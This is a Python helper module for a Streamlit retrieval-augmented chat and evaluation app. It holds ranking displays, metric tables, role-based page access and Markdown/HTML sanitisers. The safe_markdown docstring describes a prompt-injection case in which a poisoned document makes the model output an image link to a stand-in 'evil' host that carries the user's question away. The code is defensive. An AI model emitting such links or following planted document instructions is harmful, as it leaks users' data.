"""Pure helpers behind the pages: rank movement, shared-chunk colours, table rows.

Kept free of Streamlit so unit tests can check them directly; pages only lay out what
these functions compute. They take the API's own models (services.common.api_schemas), as
the client returns them.
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from typing import Any

from services.common.api_schemas import HitInfo, IngestResponse, JobInfo, ModelCard

# Pastel backgrounds for chunks that appear in more than one column (readable on light
# and dark themes because the card text colour is set with them).
PALETTE = (
    "#fde68a",
    "#bfdbfe",
    "#bbf7d0",
    "#fbcfe8",
    "#ddd6fe",
    "#fed7aa",
    "#a5f3fc",
    "#e5e7eb",
    "#d9f99d",
    "#fecaca",
)
HEADLINE = ("hit@1", "hit@3", "hit@5", "hit@10", "mrr@10", "ndcg@10", "map@100")
LLM_OWNERS_HIDDEN = ("tunestack-rag", "tunestack-embedder")


def movement(rank: int, before: dict[str, int], chunk_id: str) -> str:
    """How far a chunk moved against the baseline ranking: ▲n, ▼n, = or new."""
    old = before.get(chunk_id)
    if old is None:
        return "new"
    if old == rank:
        return "="
    return f"▲{old - rank}" if old > rank else f"▼{rank - old}"


def movement_color(move: str) -> str:
    if move.startswith("▲") or move == "new":
        return "#15803d"
    if move.startswith("▼"):
        return "#b91c1c"
    return "#6b7280"


def shared_colors(columns: Sequence[Sequence[HitInfo]]) -> dict[str, str]:
    """A colour per chunk id shown in two or more columns, in order of first appearance."""
    seen: dict[str, int] = {}
    order: list[str] = []
    for hits in columns:
        for cid in dict.fromkeys(h.id for h in hits):
            if cid not in seen:
                order.append(cid)
            seen[cid] = seen.get(cid, 0) + 1
    shared = [cid for cid in order if seen[cid] > 1]
    return {cid: PALETTE[i % len(PALETTE)] for i, cid in enumerate(shared)}


def hit_label(hit: HitInfo) -> str:
    page = f" p.{hit.page}" if hit.page else ""
    return f"{hit.file_name}#{hit.chunk_index}{page}"


def hit_card_html(
    hit: HitInfo,
    move: str | None,
    color: str | None,
    highlighted: bool,
    snippet_chars: int = 180,
) -> str:
    """One ranked chunk as an HTML card (text escaped, on one line): rank, arrow, score,
    source, text."""
    text = " ".join(hit.text.split())
    snippet = text[:snippet_chars] + ("…" if len(text) > snippet_chars else "")
    bg = color or "transparent"
    border = "3px solid #dc2626" if highlighted else "1px solid rgba(128,128,128,.35)"
    fg = "color:#111827;" if color else ""
    arrow = (
        f'<span class="ts-move" style="color:{movement_color(move)};font-weight:700">{move}</span>'
        if move
        else ""
    )
    return (
        f'<div class="ts-hit" data-chunk="{html_text(hit.id)}" '
        f'style="background:{bg};{fg}border:{border};border-radius:8px;'
        f'padding:6px 10px;margin-bottom:8px">'
        f'<div style="display:flex;justify-content:space-between;gap:8px">'
        f"<b>#{hit.rank} {html_text(hit_label(hit))}</b>"
        f"<span>{arrow} <code>{hit.score:.3f}</code></span></div>"
        f'<div style="font-size:.88em;line-height:1.35">{html_text(snippet)}</div></div>'
    )


def pick_pair(built: list[str], default_embedder: str, tuned: Iterable[str]) -> tuple[str, str]:
    """Default base (left) and tuned (right) embedders among a collection's builds."""
    if not built:
        return "", ""
    base = default_embedder if default_embedder in built else built[0]
    others = [b for b in built if b != base]
    tuned_set = set(tuned)
    right = next((b for b in others if b in tuned_set), others[0] if others else base)
    return base, right


def metric_rows(
    models: dict[str, dict[str, float]], metrics: Sequence[str] = HEADLINE
) -> list[dict[str, Any]]:
    """Table rows (one per model) with the metrics every model has."""
    cols = [m for m in metrics if any(m in v for v in models.values())]
    return [{"model": name, **{m: vals.get(m) for m in cols}} for name, vals in models.items()]


def chart_rows(
    models: dict[str, dict[str, float]], metrics: Sequence[str] = HEADLINE
) -> list[dict[str, Any]]:
    """Long-format rows (model, metric, value) for a grouped bar chart."""
    return [
        {"model": name, "metric": m, "value": float(vals[m])}
        for name, vals in models.items()
        for m in metrics
        if isinstance(vals.get(m), int | float)
    ]


def human_size(n: Any) -> str:
    if not isinstance(n, int | float):
        return "—"
    size = float(n)
    for unit in ("B", "KB", "MB", "GB"):
        if size < 1024 or unit == "GB":
            return f"{size:.0f} {unit}" if unit == "B" else f"{size:.1f} {unit}"
        size /= 1024
    return f"{size:.1f} GB"


def flat_metrics(metrics: dict[str, Any], prefix: str = "") -> dict[str, Any]:
    """{'train': {'loss': 1}} -> {'train.loss': 1}: one table for nested metric dicts."""
    out: dict[str, Any] = {}
    for k, v in metrics.items():
        key = f"{prefix}{k}"
        if isinstance(v, dict):
            out.update(flat_metrics(v, key + "."))
        elif isinstance(v, int | float | str | bool) or v is None:
            out[key] = v
    return out


def llm_choices(models: Sequence[ModelCard], serving: str) -> list[str]:
    """LLMs the server can answer with, the deployed one first."""
    names = [m.id for m in models if m.id and m.owned_by not in LLM_OWNERS_HIDDEN]
    return list(dict.fromkeys([serving, *names])) if serving else list(dict.fromkeys(names))


def ingest_rows(report: IngestResponse) -> list[dict[str, Any]]:
    """One table row per file of an ingest answer."""
    return [
        {"file": f.path, "status": f.status, "chunks": f.chunks, "reason": f.reason}
        for f in report.files
    ]


def job_text(job: JobInfo) -> str:
    count = f" ({job.done}/{job.total})" if job.total else ""
    return f"{job.message}{count}"


_BLOCK_MARKUP = re.compile(r"^(\s{0,3}\d*)([#>]|[-*+] |[.)] |={3,}|-{3,})", re.MULTILINE)


def quoted_chunk(text: str) -> str:
    """A chunk shown as Markdown without its block markup taking over the card.

    Chunks are cut from the user's files: a "# Warranty" line would render as a page-sized
    heading and a "---" line as a rule. Escaping the line-start markers keeps the words,
    inline emphasis and wrapping.
    """
    return _BLOCK_MARKUP.sub(lambda m: m.group(1) + "\\" + m.group(2), text)


# ---- who sees which page ---------------------------------------------------------------


@dataclass(frozen=True)
class Page:
    path: str
    title: str
    icon: str
    admin: bool  # ingests, deletes, reindexes, deploys or uploads: the API needs an admin key


PAGES = (
    Page("views/chat.py", "Chat", ":material/chat:", admin=False),
    Page("views/compare.py", "Compare retrieval", ":material/compare_arrows:", admin=False),
    Page("views/evaluate.py", "Evaluate", ":material/analytics:", admin=True),
    Page("views/models.py", "Models", ":material/model_training:", admin=True),
    Page("views/documents.py", "Documents", ":material/folder_open:", admin=True),
)


def pages_for(role: str) -> list[Page]:
    """The pages a role may open: admin all, anyone else the asking pages only."""
    return [p for p in PAGES if role == "admin" or not p.admin]


# ---- text from the API, shown inert -----------------------------------------------------

# What can format, link, embed or start HTML anywhere in a line; `(` and `.` only matter
# after a `]` or at the start of a line, and hyphens in names stay readable in test output.
_MD_INLINE = re.compile(r"([\\`*_~\[\]<>!|$&#])")
_MD_LINE_START = re.compile(r"^(\s*)([-+=]|\d+(?=[.)]))")
# A fence opens a code block only at column 0 here: deeper ones may sit inside a list item,
# whose end (not the closing fence) ends them, so treating them as prose is the safe side.
_FENCE_OPEN = re.compile(r"(?:(`{3,})[^`]*|(~{3,}).*)$")
_FENCE_CLOSE = re.compile(r" {0,3}(`{3,}|~{3,})[ \t]*$")
_UNESCAPED = r"(?<!\\)((?:\\\\)*)"  # an even run of backslashes: what follows is live
_LIVE_LT = re.compile(_UNESCAPED + r"<")
_LIVE_LINK_END = re.compile(_UNESCAPED + r"\](?=[(\[:])")
_LABEL = r"((?:[^\[\]\n]|\[[^\[\]\n]*\])*)"  # link text, one level of brackets inside
# (url "title"): the URL (one level of parentheses inside) and an optional title
_DEST = (
    r"\(\s*<?([^()\s<>]*(?:\([^()\s]*\)[^()\s<>]*)*)>?"
    r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)"
)
_HTML_IMG = re.compile(r"<img\b[^>]*>", re.IGNORECASE)
_HTML_ALT = re.compile(r"""\balt\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.IGNORECASE)
_IMAGE = re.compile(r"!\[" + _LABEL + r"\](?:" + _DEST + r"|\[[^\[\]\n]*\])?")
_LINK = re.compile(r"\[" + _LABEL + r"\]" + _DEST)
_REF_LINK = re.compile(r"\[" + _LABEL + r"\]\[([^\[\]\n]*)\]")
_REF_DEF = re.compile(r"^ {0,3}\[([^\[\]\n]+)\]:[ \t]*<?([^\s>]+)>?", re.MULTILINE)


def md_escape(name: str) -> str:
    """A name from the API (collection, model, file) for any element that renders Markdown:
    shown literally, so `**x**` or `[a](b)` in a name neither formats nor links."""
    flat = _MD_INLINE.sub(r"\\\1", re.sub(r"[\r\n]+", " ", str(name)))
    return _MD_LINE_START.sub(lambda m: m.group(1) + _escape_marker(m.group(2)), flat)


def _escape_marker(marker: str) -> str:
    """`-` -> `\\-`; `12` (of `12.`) -> `12\\` so the `.` that follows is literal."""
    return marker + "\\" if marker.isdigit() else "\\" + marker


def _html_image(m: re.Match[str]) -> str:
    alt = _HTML_ALT.search(m.group(0))
    return f"[image: {next((g for g in alt.groups() if g is not None), '')}]" if alt else "[image]"


def _ref_link(m: re.Match[str], refs: dict[str, str]) -> str:
    """`[label][ref]` with its definition's URL; undefined (`[1][2]` citations) left alone."""
    url = refs.get((m.group(2) or m.group(1)).lower())
    return f"{m.group(1)} ({url})" if url else m.group(0)


def _inert(prose: str) -> str:
    """Markdown without code blocks, made unable to fetch or link: images become
    `[image: alt]`, links `label (url)`; then every `<` (raw HTML, autolinks) and every `]`
    that could still close a link, image or link definition is backslash-escaped. The
    rewrites are for reading; the escaping alone is what makes the text safe."""
    refs = {k.lower(): v for k, v in _REF_DEF.findall(prose)}
    text = _HTML_IMG.sub(_html_image, prose)
    text = _IMAGE.sub(lambda m: f"[image: {m.group(1)}]", text)
    text = _LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})", text)
    text = _REF_LINK.sub(lambda m: _ref_link(m, refs), text)
    text = _LIVE_LT.sub(r"\1\\<", text)
    return _LIVE_LINK_END.sub(r"\1\\]", text)


def safe_markdown(text: str) -> str:
    """Model output or chunk text for st.markdown that loads nothing and links nowhere.

    A poisoned document can make the model answer `![x](https://evil/?q=<question>)`: the
    browser would fetch it on render, sending the question away. Fenced code blocks are kept
    as they are (nothing in them renders); everything else goes through _inert.
    """
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    out: list[str] = []
    prose: list[str] = []
    fence = ""
    for line in lines:
        if fence:
            out.append(line)
            close = _FENCE_CLOSE.match(line)
            if close and close.group(1)[0] == fence[0] and len(close.group(1)) >= len(fence):
                fence = ""
            continue
        opened = _FENCE_OPEN.match(line)
        if opened:
            if prose:
                out.append(_inert("\n".join(prose)))
                prose = []
            fence = opened.group(1) or opened.group(2)
            out.append(line)
        else:
            prose.append(line)
    if prose:
        out.append(_inert("\n".join(prose)))
    return "\n".join(out)


def html_text(text: str) -> str:
    """Text for a card inside st.markdown(..., unsafe_allow_html=True): HTML-escaped and on
    one line, as a blank line would end the HTML block and let Markdown (images) resume."""
    return html.escape(" ".join(text.split()))


# ---- RAG evaluation reports ---------------------------------------------------------------

RAG_METRICS = (
    "f1",
    "em",
    "rouge_l",
    "citation_precision",
    "citation_recall",
    "no_citation",
    "faithfulness",
    "abstention",
    "false_abstention",
    "gated",
    "latency_p50_s",
    "latency_p95_s",
    "tokens_per_s",
)


RAG_JUDGE_METRICS = ("judge_correctness", "judge_groundedness", "judge_unreadable")


def rag_metric_names(top_k: int, judged: bool = False) -> tuple[str, ...]:
    judge = RAG_JUDGE_METRICS if judged else ()
    return (f"hit@{top_k}", f"mrr@{top_k}", *RAG_METRICS, *judge)


def rag_grid_rows(report: dict[str, Any]) -> list[dict[str, Any]]:
    """One row per (LLM, embedder, mode) of a rag-eval report.json, metrics as numbers."""
    top_k = report.get("top_k")
    names = rag_metric_names(top_k if isinstance(top_k, int) else 4, bool(report.get("judge")))
    rows = []
    for g in report.get("grid") or []:
        if not isinstance(g, dict):
            continue
        row: dict[str, Any] = {k: str(g.get(k, "")) for k in ("llm", "embedder", "mode")}
        row["n"] = g.get("questions")
        for m in names:
            v = g.get(m)
            row[m] = float(v) if isinstance(v, int | float) else None
        rows.append(row)
    return rows


def combo_label(row: dict[str, Any]) -> str:
    return f"{row.get('llm', '')} · {row.get('embedder', '')} · {row.get('mode', '')}"


def parse_jsonl(data: bytes) -> list[dict[str, Any]]:
    """Records of a JSONL file; lines that are not JSON objects are skipped."""
    out = []
    for line in data.decode("utf-8", errors="replace").splitlines():
        try:
            rec = json.loads(line)
        except ValueError:
            continue
        if isinstance(rec, dict):
            out.append(rec)
    return out


def highlight_html(text: str, spans: Sequence[str]) -> str:
    """Text for an HTML card with every occurrence of the spans (gold answers) in <mark>:
    all of it HTML-escaped and on one line (see html_text); case and spacing ignored."""
    flat = " ".join(str(text).split())
    marks: list[tuple[int, int]] = []
    for span in spans:
        words = str(span).split()
        if not words:
            continue
        pattern = re.compile(r"\s+".join(re.escape(w) for w in words), re.IGNORECASE)
        marks += [(m.start(), m.end()) for m in pattern.finditer(flat)]
    merged: list[list[int]] = []
    for start, end in sorted(marks):
        if merged and start <= merged[-1][1]:
            merged[-1][1] = max(merged[-1][1], end)
        else:
            merged.append([start, end])
    out, pos = [], 0
    for start, end in merged:
        out.append(html.escape(flat[pos:start]))
        out.append(f"<mark>{html.escape(flat[start:end])}</mark>")
        pos = end
    out.append(html.escape(flat[pos:]))
    return "".join(out)
